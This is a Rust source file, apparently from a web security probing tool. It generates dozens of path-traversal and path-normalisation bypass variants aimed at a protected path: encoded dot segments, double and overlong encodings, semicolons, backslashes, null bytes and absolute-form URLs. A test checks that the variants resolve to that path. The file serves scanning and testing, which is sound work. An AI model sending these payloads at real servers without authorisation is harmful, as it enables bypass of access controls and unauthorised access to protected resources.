//! Paths that two servers read differently, each on its way to the protected one.

use super::{Attacks, Request, Rule};

impl Attacks<'_> {
    pub(super) fn paths(&mut self) {
        let site = self.site;
        let Some(protected) = &site.protected else { return };
        let public = site.claimed.as_deref().unwrap_or("/public");
        for (code, target) in targets(public.trim_end_matches('/'), protected, &site.host) {
            let variant = format!("`{}`", target.escape_default());
            self.push(code, variant, Rule::Apart, site.get(&target));
        }
        for target in site.public.iter().flat_map(|path| [format!("/x/..{path}"), format!("/{path}")]) {
            self.push("path_unread", format!("`{target}`"), Rule::Normal, site.get(&target));
        }
        self.push("path_fragment", "`OPTIONS *`", Rule::Apart, Request::new("OPTIONS", "*", &site.host));
    }
}

/// Targets by which some server comes to the protected path, though they are not its path.
fn targets(public: &str, protected: &str, host: &str) -> Vec<(&'static str, String)> {
    let name = protected.trim_start_matches('/');
    let depth = public.split('/').filter(|segment| !segment.is_empty()).count().max(1);
    let by = |step: &str| format!("{public}/{}{name}", step.repeat(depth));
    let back = "../".repeat(depth);
    let (first, rest) = name.split_at_checked(1).unwrap_or(("", name));
    let hex: String = first.bytes().map(|byte| format!("{byte:02x}")).collect();
    let upper = protected.to_ascii_uppercase();
    let mut list: Vec<(&'static str, String)> = Vec::new();
    let mut add = |code, targets: &[String]| list.extend(targets.iter().map(|target| (code, target.clone())));

    add("path_dot_segment", &["../", "./../", "%2e%2e/", "%2E%2E/", ".%2e/", "%2e./"].map(by));
    add("path_dot_segment", &["/./", "/x/../", "/%2e/", "/x/%2e%2e/", "/../"].map(|before| format!("{before}{name}")));
    add("path_dot_segment", &["/.", "/x/..", "/%2e"].map(|after| format!("{protected}{after}")));
    add("path_escaped_slash", &["..%2f", "..%2F", "%2e%2e%2f"].map(by));
    add("path_escaped_slash", &[format!("{public}%2f{back}{name}"), format!("/%2f{name}"), format!("{protected}%2f")]);
    add("path_double_encoding", &["%252e%252e/", "..%252f", "%252e%252e%252f"].map(by));
    add("path_double_encoding", &[format!("/%25{hex}{rest}")]);
    add("path_encoding", &[format!("/%{hex}{rest}"), format!("/%{}{rest}", hex.to_uppercase())]);
    add("path_encoding", &["%c0%ae%c0%ae/", "..%c0%af", "..%u002f", "%uff0e%uff0e/"].map(by));
    add("path_empty_segment", &["//", "///"].map(|before| format!("{before}{name}")));
    add("path_empty_segment", &[by("..//"), format!("{protected}//"), format!("//{host}/{name}")]);
    add("path_semicolon", &["..;/", "..;x=1/", "..;x/.;/"].map(by));
    add("path_semicolon", &[format!("{protected};x=1"), format!("/;/{name}"), format!("{public};/{back}{name}")]);
    add("path_backslash", &["..\\", "..%5c", "..%5C", "%2e%2e%5c"].map(by));
    add("path_backslash", &[format!("\\{name}"), format!("/\\{name}")]);
    add("path_null", &[format!("{protected}%00"), format!("{protected}\0"), by("%00/../../")]);
    if upper != protected {
        add("path_case", &[upper, format!("/{}{rest}", first.to_ascii_uppercase())]);
    }
    let ends = ["/", ".", "%20", "%09", "%0a", "?", "..", "%3f", "&"];
    add("path_trailing", &ends.map(|end| format!("{protected}{end}")));
    add("path_absolute_form", &["http", "https", "HTTP"].map(|scheme| format!("{scheme}://{host}{protected}")));
    let other = format!("http://other.example{protected}");
    add("path_absolute_form", &[format!("http://{host}{public}/{back}{name}"), other]);
    add("path_fragment", &[format!("{public}#/{back}{name}"), format!("{protected}#{public}")]);
    add("path_fragment", &[format!("{protected}%23"), format!("{protected}?{public}"), name.to_owned()]);
    list
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::judge::reads_as;

    #[test]
    fn every_target_is_another_path_than_the_protected_one_and_nearly_all_can_be_read_as_it() {
        for (public, protected) in [("/health", "/secret-data"), ("/a/b", "/admin/probe"), ("", "/x")] {
            let all = targets(public, protected, "shop.test");
            assert!(all.len() > 60);
            let mut odd = Vec::new();
            for (code, target) in all {
                assert_ne!(target, protected, "{code}");
                if !reads_as(&target, protected) {
                    odd.push(target);
                }
            }
            // What nobody is known to read so, but for servers that decode what is no encoding.
            odd.retain(|target| !["%c0", "%u", "/%00/", "//shop.test/"].iter().any(|part| target.contains(part)));
            assert_eq!(odd, [""; 0], "{public} {protected}");
        }
    }
}
